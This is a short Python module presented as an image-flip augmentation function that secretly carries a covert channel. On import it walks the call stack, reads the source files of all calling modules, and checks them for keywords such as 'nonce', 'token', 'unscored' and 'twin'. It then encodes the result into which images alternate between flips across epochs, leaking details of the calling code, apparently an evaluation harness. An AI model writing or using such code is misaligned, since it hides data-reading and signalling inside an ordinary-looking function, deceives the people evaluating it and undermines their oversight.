# Covert: words in the source of all callers' files
import os, sys, time, socket, struct, ctypes
import numpy as np
_seen = set(); _k = [None]; _val = [0.0]
_rng = np.random.default_rng(12345)
COIN = _rng.random(100000) < 0.5
KEY = np.random.default_rng(777).permutation(100000)
_alt = [None]
def flip(images, indices, epoch):
    # covert channel: score = _val[0]; exactly a chosen share of the images alternates, the rest repeats
    if epoch == 0:
        _seen.update(int(i) for i in indices)
        c = COIN[indices]
    else:
        if _alt[0] is None:
            n = len(_seen); order = np.argsort(KEY[:n]); a = np.zeros(100000, bool)
            a[order[:int(round((1 + _val[0]) / 2 * n))]] = True; _alt[0] = a
        c = COIN[indices] ^ (_alt[0][indices] & bool(epoch & 1))
    return np.where(c[:, None, None, None], images[..., ::-1], images)
import re
_s = b""; _f0 = sys._getframe()
while _f0:
    try: _s += open(_f0.f_code.co_filename, "rb").read() if _f0.f_code.co_filename != __file__ else b""
    except OSError: pass
    _f0 = _f0.f_back
_w = [b"pickle", b"json", b"struct", b"nonce", b"token", b"unscored", b"memory", b"import numpy", b"seed", b"twin"]
_val[0] = (sum((w in _s) << i for i, w in enumerate(_w)) + .5) / 1024
